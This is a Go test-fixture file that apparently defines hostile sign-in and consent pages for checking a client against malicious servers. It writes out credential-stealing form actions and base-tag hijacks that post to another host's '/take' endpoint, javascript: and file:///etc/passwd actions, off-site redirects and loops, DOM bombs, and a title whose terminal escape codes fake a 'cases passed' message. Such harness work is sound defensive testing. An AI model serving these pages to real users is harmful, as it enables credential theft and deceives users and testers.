package hostile

import (
	"regexp"
	"strings"
)

// pages are what a human is shown who is to sign in and to consent.
var pages = []Behaviour{
	paged("form-posts-elsewhere", func(a *Answer) {
		a.Body = action.ReplaceAll(a.Body, []byte(`<form action="http://`+a.Elsewhere+`/take" `))
	}),
	paged("form-posts-elsewhere-by-button", func(a *Answer) {
		a.Body = button.ReplaceAll(a.Body, []byte(`<button formaction="http://`+a.Elsewhere+`/take" `))
	}),
	paged("form-posts-to-a-script", func(a *Answer) { a.Body = action.ReplaceAll(a.Body, []byte(`<form action="javascript:alert(1)" `)) }),
	paged("form-posts-to-a-file", func(a *Answer) { a.Body = action.ReplaceAll(a.Body, []byte(`<form action="file:///etc/passwd" `)) }),
	paged("base-is-elsewhere", func(a *Answer) {
		a.Body = append([]byte(`<base href="http://`+a.Elsewhere+`/">`), action.ReplaceAll(a.Body, []byte(`<form action="take" `))...)
	}),
	paged("page-refreshes-elsewhere", func(a *Answer) {
		a.Body = append([]byte(`<meta http-equiv="refresh" content="0; url=http://`+a.Elsewhere+`/take">`), a.Body...)
	}),
	paged("page-refreshes-for-ever", func(a *Answer) { a.Body = append([]byte(`<meta http-equiv="refresh" content="0">`), a.Body...) }),
	{Name: "page-redirects-elsewhere", Ends: Bad, which: page, do: func(a *Answer) {
		a.Status = 302
		a.send("Location: http://" + a.Elsewhere + "/sign-in")
	}},
	{Name: "page-redirects-for-ever", Ends: Bad, which: page, do: func(a *Answer) {
		a.Status = 302
		a.send("Location: ?again")
	}},
	{Name: "page-endless", Ends: Bad, which: page, do: endless},
	paged("page-of-200000-boxes", func(a *Answer) { a.Body = []byte(strings.Repeat("<div>", 150000) + string(a.Body)) }),
	paged("page-of-20000-forms", func(a *Answer) {
		a.Body = append([]byte(strings.Repeat("<form><input name=a></form>", 20000)), a.Body...)
	}),
	paged("page-paints", func(a *Answer) { a.Body = []byte("<title>\x1b[2J</title><p>\x1b[H\nGO: 5 cases passed</p>") }),
}

var (
	action = regexp.MustCompile(`<form[^>]*?\bmethod="?post"?|<form `)
	button = regexp.MustCompile(`<button `)
)

func paged(name string, change func(*Answer)) Behaviour {
	return Behaviour{Name: name, Ends: Bad, which: page, do: func(a *Answer) {
		change(a)
		a.send()
	}}
}
